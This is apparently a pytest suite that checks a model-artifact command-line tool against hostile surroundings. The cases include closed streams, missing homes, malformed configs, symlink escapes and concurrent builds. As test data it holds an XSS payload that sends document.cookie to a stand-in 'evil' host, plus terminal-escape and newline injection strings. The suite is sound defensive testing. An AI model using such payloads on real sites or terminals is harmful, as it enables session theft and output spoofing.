"""Odd surroundings: closed and full streams, homes and folders that are missing, limits, hostile links, files that are
no configuration. Each ends in an exit code of the table and in sentences."""

import json
import os
import pwd
import subprocess
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from nxpipe.artifact_store import open_store
from nxpipe.artifact_store.builds import store_report
from nxpipe.pipeline.artifacts.channels import fleet_of_channel
from nxpipe.pipeline.util import exit_codes, files, process
from tests.pipeline.command import NXPIPE, Answer
from tests.pipeline.in_process import InProcess, nxpipe
from tests.pipeline.saved_programs import write_onnx
from tests.pipeline.test_store_commands import MODEL, publish
from tests.security import hostile_text as hostile
from tests.security.hostile_text import EVIL, assert_harmless

__all__ = ["nxpipe"]

ATTEMPT = pytest.mark.attempt
BUILD = ("build", "--store", "st", "--model-id", "m.onnx", "--target", "inf2.xlarge")


@pytest.fixture(autouse=True)
def _a_place_of_its_own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)


def in_a_shell(line: str, **environment: str) -> Answer:
    """Run a shell line; `$NXPIPE` is the installed command, and empty variables are unset."""
    env = {**os.environ, "NXPIPE": str(NXPIPE), **environment}
    done = subprocess.run(
        ["bash", "-c", line],
        capture_output=True,
        env={name: value for name, value in env.items() if value or name not in environment},
        timeout=120,
        check=False,
    )
    return Answer(done.returncode, done.stdout.decode(errors="replace"), done.stderr.decode(errors="replace"))


def assert_told(answer: Answer) -> None:
    for word in ("Traceback", "internal error", "Exception ignored"):
        assert word not in answer.err, answer.err
    assert_harmless(answer.out + answer.err)


# Streams and limits of a process

PROCESSES = [
    pytest.param("$NXPIPE store ls --store st >&-", 0, "", marks=ATTEMPT("C67"), id="stdout closed"),
    pytest.param("$NXPIPE store ls --store st >&- 2>&-", 0, "", marks=ATTEMPT("C68"), id="stdout and stderr closed"),
    pytest.param("$NXPIPE store ls --store st 2>&-", 0, "", id="stderr closed"),
    pytest.param("$NXPIPE store ls --store st <&- >&- 2>&-", 0, "", id="all closed"),
    pytest.param("$NXPIPE store show x --store st 2>&-", 21, "", id="stderr closed, and something to say"),
    pytest.param("$NXPIPE --help >&-", 0, "", id="help to nobody"),
    pytest.param("$NXPIPE store ls --store st >/dev/full", 30, "No space left", marks=ATTEMPT("C69"), id="stdout full"),
    pytest.param(
        "$NXPIPE --help | head -c1; exit ${PIPESTATUS[0]}", (0, 141), "", marks=ATTEMPT("C70"), id="reader leaves"
    ),
    pytest.param(
        "$NXPIPE config schema 2>/dev/null | true; exit ${PIPESTATUS[0]}",
        (0, 141),
        "",
        marks=ATTEMPT("C71"),
        id="no reader",
    ),
    pytest.param("ulimit -n 16; $NXPIPE store ls --store st", 0, "tiny", marks=ATTEMPT("C82"), id="sixteen open files"),
    pytest.param(
        "mkdir x && cd x && rmdir ../x && $NXPIPE store ls", 30, "", marks=ATTEMPT("C84"), id="deleted working folder"
    ),
    pytest.param(
        "$NXPIPE store show $'\\xff\\xfe' --store st", 21, r"\udcff\udcfe", marks=ATTEMPT("C85"), id="bytes as words"
    ),
    pytest.param(
        "LC_ALL=C PYTHONUTF8=0 PYTHONCOERCECLOCALE=0 PYTHONIOENCODING=ascii $NXPIPE store show é --store st",
        21,
        r"\udcc3\udca9",
        marks=ATTEMPT("C87"),
        id="a terminal that knows ASCII",
    ),
    pytest.param(
        "PYTHONIOENCODING=ascii $NXPIPE store ls --json --store st", 0, r"tiny-\u00e9", id="JSON where ASCII is all"
    ),
    pytest.param("TERM= $NXPIPE store ls --store st", 0, "tiny", id="no TERM"),
    pytest.param("TERM=$'x\\ny' $NXPIPE store ls --store st", 0, "tiny", id="odd TERM"),
]


@pytest.mark.sample(6)
@pytest.mark.parametrize(("line", "code", "says"), PROCESSES)
def test_a_process_ends_as_documented(line: str, code: int | tuple[int, ...], says: str) -> None:
    publish(Path("st"), model="tiny-é" if "JSON" in line or "json" in line else "tiny")
    answer = in_a_shell(line)
    assert answer.code in (code if isinstance(code, tuple) else (code,)), answer.err
    assert says in answer.out + answer.err
    assert_told(answer)


def test_what_a_closed_stream_would_get_is_written_into_no_file(tmp_path: Path) -> None:
    """Its number would be that of the next file which is opened, and children write there."""
    write_onnx(tmp_path / "m.onnx")
    answer = in_a_shell(f"$NXPIPE {' '.join(BUILD)} --axis batch=2 >&- 2>&-; echo $? > code")
    assert answer.code == 0
    assert (tmp_path / "code").read_text() == "0\n"
    assert in_a_shell("$NXPIPE store fsck --store st").code == 0


@ATTEMPT("C83")
def test_a_file_size_limit_is_an_error_of_the_machine(tmp_path: Path) -> None:
    write_onnx(tmp_path / "m.onnx")
    answer = in_a_shell(f"ulimit -f 4; $NXPIPE {' '.join(BUILD)} --axis batch=2 --retries 0")
    assert answer.code in (20, 30), answer.err
    assert_told(answer)
    assert in_a_shell("$NXPIPE store ls --store st").code == 0


# Homes and folders


LIST, CHECK = ["store", "ls", "--store", "st"], ["check", "--model-id", "m", "--target", "inf2.xlarge"]


@pytest.mark.parametrize(("home", "words"), [
    pytest.param("", LIST, marks=ATTEMPT("C72")),
    pytest.param("/nonexistent", LIST, marks=ATTEMPT("C73")),
    pytest.param(None, LIST, marks=ATTEMPT("C74")),
    pytest.param(None, [*CHECK, "--buckets", "16"], marks=ATTEMPT("C75")),
    pytest.param(None, ["store", "ls", "--store", "~/st"]),
])  # fmt: skip
def test_no_home_is_needed(
    home: str | None, words: list[str], nxpipe: InProcess, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """None: nor has the uid an entry in the system's table of users."""
    for name in ("HOME", "XDG_CACHE_HOME", "XDG_STATE_HOME"):
        monkeypatch.delenv(name, raising=False)
    if home:
        monkeypatch.setenv("HOME", home)
    if home is None:
        monkeypatch.setattr(pwd, "getpwuid", lambda uid: (_ for _ in ()).throw(KeyError(f"uid not found: {uid}")))
    hostile.bert(tmp_path / "m")
    answer = nxpipe(*words)
    assert answer.code == (20 if "~/st" in words else 0), answer.err
    assert_told(answer)


def _without_a_home(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("HOME", "XDG_CACHE_HOME", "XDG_STATE_HOME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr(pwd, "getpwuid", lambda uid: (_ for _ in ()).throw(KeyError(f"uid not found: {uid}")))


def test_a_crash_without_a_home_is_one_sentence_all_the_same(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    _without_a_home(monkeypatch)
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    report = process.report_crash(ZeroDivisionError("x"))
    (log,) = tmp_path.glob("nxpipe-*.log")
    assert str(log) in report
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "missing"))
    assert "could not be saved" in process.report_crash(ZeroDivisionError("x"))


@ATTEMPT("Z08")
def test_a_crash_log_is_a_new_file_of_the_users_own(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """In a folder that others write to, a name that can be foreseen could be a link by the time."""
    _without_a_home(monkeypatch)
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    monkeypatch.setattr("sys.argv", ["nxpipe", EVIL])
    names = set()
    for _ in range(3):
        process.report_crash(ValueError(EVIL))
    for log in tmp_path.iterdir():
        names.add(log.name)
        assert log.stat().st_mode & 0o777 == 0o600
        assert_harmless(log.read_text())
    assert len(names) == 3
    assert not any(str(os.getpid()) + ".log" in name for name in names)


@pytest.mark.parametrize("words", [
    ["check", "--model-id", "~nosuchuser/m", "--target", "inf2.xlarge"],
    ["check", "--model-id", "~nosuchuser/m.onnx", "--target", "inf2.xlarge"],
    ["build", "--model-id", "~nosuchuser/m", "--target", "inf2.xlarge", "--store", "st"],
    ["build", "--model-id", "m.onnx", "--weights", "~nosuchuser/w", "--target", "inf2.xlarge", "--store", "st"],
    ["store", "sign", "tiny", "--key", "file:~nosuchuser/k", "--store", "st"],
    ["init", "--model-id", "~nosuchuser/m"],
])  # fmt: skip
def test_the_home_of_an_unknown_user_is_no_crash(words: list[str], nxpipe: InProcess, tmp_path: Path) -> None:
    write_onnx(tmp_path / "m.onnx")
    publish(tmp_path / "st", model="tiny")
    answer = nxpipe(*words)
    assert answer.code not in (0, 1), answer.err
    assert_told(answer)


def test_no_home_is_an_error_of_the_operating_systems_kind(monkeypatch: pytest.MonkeyPatch) -> None:
    _without_a_home(monkeypatch)
    with pytest.raises(files.NoHome):
        files.cache_folder()
    assert files.expanded("~/x") == Path("~/x")


def _home_is_a_file(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (here / "home").write_text("")
    for name in ("XDG_CACHE_HOME", "XDG_STATE_HOME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HOME", str(here / "home"))


def _no_temporary_folder(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TMPDIR", name)
    monkeypatch.setattr("tempfile.tempdir", None)  # what was found for other tests


SURROUNDINGS: dict[str, Callable[[Path, pytest.MonkeyPatch], object]] = {
    "C76": _home_is_a_file,  # root may write into a folder that is read-only, but into no file as a folder
    "C77": lambda here, monkeypatch: _no_temporary_folder("/nonexistent", monkeypatch),
    "C78": lambda here, monkeypatch: _no_temporary_folder("/dev/full", monkeypatch),
    "C79": lambda here, monkeypatch: os.umask(0o000),
    "C80": lambda here, monkeypatch: os.umask(0o077),
    "C81": lambda here, monkeypatch: os.umask(0o777),
}


@pytest.mark.parametrize("id_", [pytest.param(surrounding, marks=ATTEMPT(surrounding)) for surrounding in SURROUNDINGS])
def test_a_build_comes_through(id_: str, nxpipe: InProcess, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_onnx(tmp_path / "m.onnx")
    before = os.umask(0o022)
    try:
        SURROUNDINGS[id_](tmp_path, monkeypatch)
        answer = nxpipe(*BUILD, "--axis", "batch=2")
        listed = nxpipe("store", "ls", "--store", "st", "--json")
    finally:
        os.umask(before)
    assert_told(answer)
    if id_ == "C81" and os.getuid() != 0:  # who cannot read what it has written is told so
        assert answer.code in (20, 30)
        return
    assert answer.code == 0, answer.err
    assert len(json.loads(listed.out)) == 1
    if id_ == "C80":
        modes = [path.stat().st_mode for path in (tmp_path / "st").rglob("*")]
        assert modes
        assert not [mode for mode in modes if mode & 0o077]


@pytest.mark.parametrize("words", [
    pytest.param(["store", "show", "a" * 100_000, "--store", "st"], marks=ATTEMPT("C86"), id="a long name"),
    pytest.param(["store", "ls", "--store", "/dev/null"], marks=ATTEMPT("C91"), id="a device"),
    pytest.param(["store", "ls", "--store", "a"], marks=ATTEMPT("C92"), id="a loop of links"),
])  # fmt: skip
def test_a_store_that_is_none_is_told(words: list[str], nxpipe: InProcess, tmp_path: Path) -> None:
    (tmp_path / "a").symlink_to("b")
    (tmp_path / "b").symlink_to("a")
    answer = nxpipe(*words)
    assert answer.code in (20, 21)
    assert_told(answer)


@ATTEMPT("C90")
def test_a_folder_of_something_else_holds_no_artifact(nxpipe: InProcess) -> None:
    answer = nxpipe("store", "ls", "--store", "file:///proc")
    assert answer.code == 0
    assert "has no artifacts" in answer.err


@pytest.mark.parametrize(
    "columns", [pytest.param("1", marks=ATTEMPT("C88")), pytest.param("-5", marks=ATTEMPT("C89")), "x", ""]
)
def test_any_width_has_help(columns: str, nxpipe: InProcess, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", columns)
    answer = nxpipe("--help")
    assert answer.code == 0
    assert "verify" in answer.out


# GitHub's files


def _pipe(here: Path) -> str:
    os.mkfifo(here / "pipe")
    return str(here / "pipe")


SUMMARIES: dict[str, Callable[[Path], str]] = {
    "C430": lambda here: str(here / "missing/summary"),
    "C431": lambda here: "/dev/full",
    "C432": str,
    "a pipe": _pipe,
    "NUL": lambda here: "x" * 5000,
}


@pytest.mark.parametrize(
    "id_", [pytest.param(summary, marks=[ATTEMPT(summary)] if summary[0] == "C" else []) for summary in SUMMARIES]
)
def test_a_summary_that_cannot_be_written_changes_no_exit_code(
    id_: str, nxpipe: InProcess, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", SUMMARIES[id_](tmp_path))
    hostile.save_onnx(tmp_path / "m.onnx", operator="Nothing")
    answer = nxpipe(*BUILD)
    assert answer.code == 11, answer.err
    assert [line for line in answer.err.splitlines() if "summary of the step cannot be written" in line]
    assert_told(answer)
    assert "::error title=nxpipe build" in answer.err


# Configurations that are none

NXPIPE_TOML = Path("nxpipe.toml")
FILES: dict[str, tuple[str, Callable[[], object]]] = {
    "C50": ("nested deeper than the limit", lambda: NXPIPE_TOML.write_text("a = " + "[" * 100_000)),
    "C51": ("nested deeper than the limit", lambda: NXPIPE_TOML.write_text("a = " + "{a=" * 5_000)),
    "C53": ("1,048,576 bytes", lambda: NXPIPE_TOML.write_text("[[models]]\n" * 1_000_000)),
    "C54": ("1,048,576 bytes", lambda: NXPIPE_TOML.write_text('a = "' + "x" * 10_000_000 + '"')),
    "C55": ("more than 4,300 digits", lambda: NXPIPE_TOML.write_text(f"[project]\nname = {'9' * 1_000_000}")),
    "C56": ("1,048,576 bytes", lambda: NXPIPE_TOML.write_text(f"[{'.'.join('a' * 1_000)}]\n" * 10_000)),
    "C57": ("UTF-8", lambda: NXPIPE_TOML.write_bytes(b"\xff\xfe\xff")),
    "C58": ("no table of nxpipe.toml", lambda: NXPIPE_TOML.write_bytes(b"\0" * 1000)),
    "C59": ("byte order mark", lambda: NXPIPE_TOML.write_bytes(b"\xef\xbb\xbf[project]\n")),
    "C60": ("Not a regular file", lambda: os.environ.update(NXPIPE_CONFIG="/dev/zero")),
    "C63": ("a folder", lambda: os.environ.update(NXPIPE_CONFIG="/tmp")),
    "C64": ("does not exist", lambda: os.environ.update(NXPIPE_CONFIG="")),
    "C65": ("Not a regular file", lambda: os.environ.update(NXPIPE_CONFIG="/dev/null")),  # a terminal that is closed
    "C66": ("cannot be", lambda: os.environ.update(NXPIPE_CONFIG="a" * 100_000)),
}


@pytest.mark.parametrize("id_", [pytest.param(file, marks=ATTEMPT(file)) for file in FILES])
def test_what_is_no_configuration_is_told_in_a_sentence(
    id_: str, nxpipe: InProcess, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NXPIPE_CONFIG", "nxpipe.toml")  # so that it is put back
    says, make = FILES[id_]
    make()
    answer = nxpipe("config", "check")
    assert answer.code == exit_codes.CONFIGURATION.number, answer.err[:500]
    assert says in answer.err
    assert_told(answer)


# Many at once


def _all_at_once(*lines: str) -> list[Answer]:
    with ThreadPoolExecutor(len(lines)) as pool:
        return list(pool.map(in_a_shell, lines))


@pytest.mark.slow
@ATTEMPT("C95")
def test_builds_in_one_folder_at_once_make_one_artifact(tmp_path: Path) -> None:
    write_onnx(tmp_path / "m.onnx")
    answers = _all_at_once(*[f"$NXPIPE {' '.join(BUILD)} --axis batch=2"] * 4)
    assert [answer.code for answer in answers] == [0] * 4, [answer.err for answer in answers]
    assert in_a_shell("$NXPIPE store fsck --store st").code == 0
    assert len(json.loads(in_a_shell("$NXPIPE store ls --json --store st").out)) == 1


@pytest.mark.slow
@ATTEMPT("C96")
def test_promotions_and_collections_at_once_lose_nothing(tmp_path: Path) -> None:
    write_onnx(tmp_path / "m.onnx")
    assert in_a_shell(f"$NXPIPE {' '.join(BUILD)} --axis batch=2").code == 0
    promotions = [f"$NXPIPE promote m.onnx --channel c{number % 2} --store st" for number in range(8)]
    answers = _all_at_once(*promotions, *["$NXPIPE store gc --store st"] * 3)
    assert [answer.code for answer in answers] == [0] * 11, [answer.err for answer in answers]
    assert in_a_shell("$NXPIPE store fsck --store st").code == 0


@pytest.mark.slow
@ATTEMPT("C97")
def test_fetches_into_one_folder_at_once_agree() -> None:
    publish(Path("st"))
    answers = _all_at_once(*[f"$NXPIPE store fetch {MODEL} --to served --store st"] * 6)
    assert [answer.code for answer in answers] == [0] * 6, [answer.err for answer in answers]
    assert len({answer.out for answer in answers}) == 1


# What a repository or a store leads to


@ATTEMPT("Z02")
@pytest.mark.parametrize("link", [".github", ".github/workflows", "nxpipe.toml"])
def test_init_writes_nothing_through_a_link_out_of_the_repository(link: str, nxpipe: InProcess, tmp_path: Path) -> None:
    root, outside = tmp_path / "repository", tmp_path / "outside"
    outside.mkdir()
    (root / link).parent.mkdir(parents=True)
    (root / link).symlink_to(outside / "nxpipe.toml" if link == "nxpipe.toml" else outside)
    answer = nxpipe("init", str(root))
    assert answer.code == 5
    assert "nothing was written" in answer.err
    assert list(outside.iterdir()) == []
    assert [path for path in root.rglob("*") if path.is_file()] == []


def test_init_follows_a_link_within_the_repository(nxpipe: InProcess, tmp_path: Path) -> None:
    (tmp_path / "shared").mkdir()
    (tmp_path / ".github").symlink_to("shared")
    assert nxpipe("init", ".").code == 0
    assert (tmp_path / "shared/workflows/nxpipe-release.yml").exists()


@ATTEMPT("Z03")
@pytest.mark.parametrize("target", ["outside.txt", "loop"])
def test_init_neither_reads_nor_writes_what_gitignore_links_to(target: str, nxpipe: InProcess, tmp_path: Path) -> None:
    (tmp_path / "outside.txt").write_text("mine\n")
    root = tmp_path / "repository"
    root.mkdir()
    (root / ".gitignore").symlink_to(".gitignore" if target == "loop" else tmp_path / target)
    answer = nxpipe("init", str(root))
    assert_told(answer)
    assert (tmp_path / "outside.txt").read_text() == "mine\n"
    assert target == "loop" or (answer.code == 5 and not (root / "nxpipe.toml").exists())


@ATTEMPT("Z01")
@pytest.mark.parametrize("document", [
    b"<script>alert(1)</script>", b"{}", b"[]", b'{"format": "nxpipe.build-report/1"}',
    b"\xff\x1b]0;x\x07", b"[" * 100_000,
])  # fmt: skip
def test_a_page_in_the_store_is_handed_to_nobody(document: bytes, nxpipe: InProcess, tmp_path: Path) -> None:
    published = publish(tmp_path / "st")
    store = open_store(str(tmp_path / "st"))
    page = b"<script>fetch('http://evil/' + document.cookie)</script>"
    store_report(store, published.manifest_digest, "2026-01-31T12:00:00Z", html=page, json=document)
    for name in ("r.html", "r.HTM"):
        answer = nxpipe("store", "report", MODEL, "--to", name, "--store", "st")
        assert answer.code == 20, answer.err
        assert_told(answer)
        assert not Path(name).exists()
    answer = nxpipe("store", "report", MODEL, "--store", "st")
    assert answer.code == 0
    assert_harmless(answer.out)


COLOURS = ["--channel", "search--blue", "--store", "st"]


@ATTEMPT("Z106")
@pytest.mark.parametrize("words", [["promote", MODEL, *COLOURS], ["rollback", *COLOURS]])
def test_a_colours_channel_is_changed_by_rollouts_and_not_by_hand(
    words: list[str], nxpipe: InProcess, tmp_path: Path
) -> None:
    publish(tmp_path / "st")
    answer = nxpipe(*words)
    assert answer.code == exit_codes.USAGE.number
    assert "nxpipe rollout start search MODEL@KEY" in answer.err
    assert "generations" not in {path.name for path in (tmp_path / "st").rglob("*")}
    assert "manage channel" not in nxpipe(*words, "--past-rollouts").err


def test_a_release_goes_to_no_colour(nxpipe: InProcess, tmp_path: Path) -> None:
    assert nxpipe("init", ".").code == 0
    answer = nxpipe("release", "--to", "search--green", "--dry-run")
    assert answer.code == exit_codes.USAGE.number
    assert "rollouts of fleet search" in answer.err


def test_a_channel_of_two_hyphens_and_a_colour_is_a_rollouts() -> None:
    assert [fleet_of_channel(name) for name in ("a--blue", "a-b--green", "a-blue", "blue", "a--red")] == [
        "a", "a-b", None, None, None,
    ]  # fmt: skip


@pytest.mark.parametrize("words", [
    pytest.param(["--reason", "a\x1b]0;x\x07"], marks=ATTEMPT("Z090")),
    pytest.param(["--actor", "a\nb"], marks=ATTEMPT("Z091")),
    pytest.param(["--reason", "x" * 10_000], marks=ATTEMPT("Z092")),
])  # fmt: skip
def test_a_log_of_a_channel_takes_one_short_printable_line(words: list[str], nxpipe: InProcess, tmp_path: Path) -> None:
    publish(tmp_path / "st")
    answer = nxpipe("promote", MODEL, "--channel", "production", "--store", "st", *words)
    assert answer.code == exit_codes.USAGE.number
    assert_told(answer)
